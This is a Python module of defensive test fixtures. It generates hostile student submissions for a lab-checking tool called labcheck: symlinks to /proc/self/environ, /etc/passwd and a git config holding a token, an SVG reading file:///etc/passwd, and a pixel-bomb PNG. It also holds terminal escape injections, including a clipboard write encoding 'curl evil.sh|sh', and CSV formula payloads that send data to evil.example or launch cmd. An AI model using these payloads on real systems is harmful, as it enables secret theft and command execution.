"""Generators of hostile files: what a student can put in a workspace, a Markdown folder or a
submissions folder. Each makes its input in a folder it is given (no big files are kept: a huge
file is sparse, a device is made with mknod)."""

from __future__ import annotations

import os
import stat
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image

SECRET_KEY = "k3y-0f-the-c0urse-do-not-leak"  # what a leak would show
HUGE_BYTES = 20 * 1024 * 1024 * 1024  # sparse: costs no disk


def symlink_to(target: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.symlink_to(target)

    return make


def symlink_up_to_checkout_config(path: Path) -> None:
    """`../course/.git/config`: where actions/checkout keeps its token, beside the workspace."""
    config = path.parent.parent / "course" / ".git" / "config"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n')
    path.symlink_to("../course/.git/config")


def fifo(path: Path) -> None:
    os.mkfifo(path)


def zero_device(path: Path) -> None:
    """A character device like /dev/zero, inside the folder (needs root, as CI's runners are)."""
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))


def huge_sparse(path: Path) -> None:
    with path.open("wb") as stream:
        stream.truncate(HUGE_BYTES)


def folder(path: Path) -> None:
    path.mkdir()


def hard_link_to(target: Path) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        os.link(target, path)

    return make


# The student's workspace: a file where a lab file is expected, and what labcheck must say.
WORKSPACE_ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
    "symlink-proc-environ": (symlink_to("/proc/self/environ"), "is a symlink to /proc/self/environ, outside"),
    "symlink-etc-passwd": (symlink_to("/etc/passwd"), "is a symlink to /etc/passwd, outside"),
    "symlink-up-git-config": (
        symlink_up_to_checkout_config,
        "is a symlink to ../course/.git/config, outside",
    ),
    "symlink-dev-zero": (symlink_to("/dev/zero"), "outside the workspace"),
    "dangling-symlink": (symlink_to("nowhere-at-all"), "which does not exist"),
    "symlink-loop": (symlink_to("index.js"), "symlink loop"),
    "fifo": (fifo, "is a FIFO (named pipe), not a regular file"),
    "device": (zero_device, "is a character device, not a regular file"),
    "huge": (huge_sparse, "is too big (20480.0 MB"),
    "folder": (folder, "is a folder, not a regular file"),
}


def svg_as_png(path: Path) -> None:
    path.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="file:///etc/passwd" width="10" height="10"/></svg>',
        encoding="utf-8",
    )


def html_as_png(path: Path) -> None:
    path.write_text("<html><body><iframe src='file:///etc/shadow'></iframe></body></html>\n")


def real_png(path: Path) -> None:
    Image.new("RGB", (4, 3), "#446688").save(path, format="PNG")


def jpeg_as_png(path: Path) -> None:
    Image.new("RGB", (4, 3), "#446688").save(path, format="JPEG")


def damaged_png(path: Path) -> None:
    real_png(path)
    data = bytearray(path.read_bytes())
    data[-20] ^= 0xFF  # inside the last chunks: the checksum no longer holds
    path.write_bytes(bytes(data))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def pixel_bomb_png(path: Path) -> None:
    """A valid 100-byte PNG header that claims 100,000 x 100,000 pixels."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 64)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


# Pictures a student's Markdown points at, and what labcheck must say of each.
PICTURE_ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
    "svg-as-png": (svg_as_png, "is named as a PNG picture but is a SVG or HTML (text) file"),
    "html-as-png": (html_as_png, "is named as a PNG picture but is a SVG or HTML (text) file"),
    "jpeg-as-png": (jpeg_as_png, "is named as a PNG picture but is a JPEG file"),
    "damaged-png": (damaged_png, "is a damaged PNG image"),
    "pixel-bomb": (pixel_bomb_png, "pixels"),
    "symlink-dev-zero": (
        symlink_to("/dev/zero"),
        "is a symlink to /dev/zero, outside the Markdown file's folder",
    ),
    "symlink-etc": (symlink_to("/etc/hostname"), "is a symlink to /etc/hostname, outside"),
    "device": (zero_device, "is a character device, not a regular file"),
    "fifo": (fifo, "is a FIFO (named pipe), not a regular file"),
    "huge": (huge_sparse, "is too big (20480.0 MB; the limit is 10.0 MB)"),
}

# Text a student can put in a file name or a bundle, meant for the teacher's terminal or sheet.
TERMINAL_ATTACKS = {
    "erase-and-fake": "ana\x1b[2K\r\x1b[1Aalice    passed",  # erase the row, print a fake one
    "clipboard": "bob\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",  # OSC 52: write the clipboard
    "c1-csi": "carol\x9b2J",  # a C1 CSI: clears the screen on some terminals
    "backspace": "dave\x08\x08\x08\x08eve",
    "bidi": "frank\u202edeliaf",  # right-to-left override: reorders what is shown
}
CSV_ATTACKS = {
    # File names (no slash): the CSV's first column is the student named by the file.
    "formula": '=HYPERLINK("evil.example?"&A1,"ver nota")',
    "plus": "+cmd|' -C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
}
XML_FORBIDDEN = "nul\x00 vt\x0b ff\x0c esc\x1b unit\x1f fffe\ufffe"
